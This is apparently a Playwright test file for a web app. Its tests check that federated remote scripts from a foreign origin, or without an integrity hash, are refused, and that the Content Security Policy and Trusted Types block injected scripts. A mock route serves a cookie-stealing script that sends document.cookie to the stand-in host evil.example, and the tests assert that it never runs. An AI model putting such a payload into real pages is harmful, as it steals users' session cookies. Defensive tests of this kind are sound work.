import type { Page } from '@playwright/test';
import { changeRegistryOfPages } from '../src/changed-registry';
import { expect, test } from '../src/story';

const MESSAGE = '이 화면을 불러오지 못했어요';
const FOREIGN = 'https://evil.example';

/** Replacements of a remote's live entry in the page's registry. */
interface Change {
  readonly url?: string;
  readonly entry?: string;
  readonly assets?: Record<string, string>;
}

/** Responds to every request to the foreign origin. @returns the requested URLs. */
const standForStranger = async (page: Page): Promise<string[]> => {
  const asked: string[] = [];
  await page.route(`${FOREIGN}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: `window.smuggled = document.cookie; fetch('${FOREIGN}/?' + document.cookie);`,
    });
  });
  return asked;
};

/** Replaces the live entry of `mf_usage` in every page. */
const comeWith = (page: Page, { url, ...extras }: Change): Promise<unknown> =>
  changeRegistryOfPages(page, ({ mf_usage: served = [] }) => {
    for (const live of served) {
      live.url = url ?? live.url;
      delete live.fallbackUrl; // without a fallback: a reused system would show the previous version
      Object.assign(live.extras, extras);
    }
  });

const smuggled = (page: Page): Promise<boolean> => page.evaluate(() => 'smuggled' in window);

const FOREIGN_ENTRY = `${FOREIGN}/remoteEntry.js`;

const CHANGES: Readonly<Record<string, Change>> = {
  'is on a foreign origin': { url: `${FOREIGN}/mf_usage/1/mf-manifest.json` },
  'is named in full on a foreign origin': { entry: FOREIGN_ENTRY, assets: { [FOREIGN_ENTRY]: 'sha384-x' } },
  'has no hash': { assets: {} },
};

for (const [what, change] of Object.entries(CHANGES))
  test(`a container that ${what} never runs and shows the message`, async ({ app, page, member: _loggedIn }) => {
    const asked = await standForStranger(page);
    await comeWith(page, change);
    await app.usage.open();
    await expect(app.text(MESSAGE)).toBeVisible();
    expect(asked).toEqual([]);
    expect(await smuggled(page)).toBe(false);

    await app.tabs.goToMyPage();
    await expect(app.my.heading).toBeVisible();
  });

test.describe('scripts in the page', () => {
  // Browser errors for blocked scripts.
  test.use({ causedErrors: /TrustedScriptURL|TrustedHTML|Content Security Policy/ });

  test('cannot add a script of a foreign origin', async ({ app, page }) => {
    const asked = await standForStranger(page);
    await app.home.open();
    const refused = await page.evaluate((origin) => {
      const script = document.createElement('script');
      const refuses = (set: () => void): boolean => {
        try {
          set();
          return false;
        } catch {
          return true;
        }
      };
      const outcome = [
        refuses(() => (script.src = `${origin}/a.js`)),
        refuses(() => script.setAttribute('src', `${origin}/a.js`)),
        refuses(() => (document.body.innerHTML += `<script src="${origin}/a.js"></script>`)),
      ];
      document.head.append(script);
      return outcome;
    }, FOREIGN);
    expect(refused).toEqual([true, true, true]);
    expect(asked).toEqual([]);
  });

  test("cannot add a remote's script without its hash", async ({ app, page, member: _loggedIn }) => {
    await app.usage.open();
    await expect(app.usage.heading).toBeVisible();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const outcome = await page.evaluate(async () => {
      const [known] = document.querySelectorAll('link[rel="preload"][integrity]');
      const script = document.createElement('script');
      script.src = known?.getAttribute('href') ?? '';
      const settled = new Promise<string>((resolve) => {
        script.onload = () => resolve('it ran');
        script.onerror = () => resolve('refused');
      });
      document.head.appendChild(script);
      return settled;
    });
    expect(outcome).toBe('refused');
    expect(asked.filter((url) => url.includes('/mf_usage/'))).toEqual([]);
  });
});
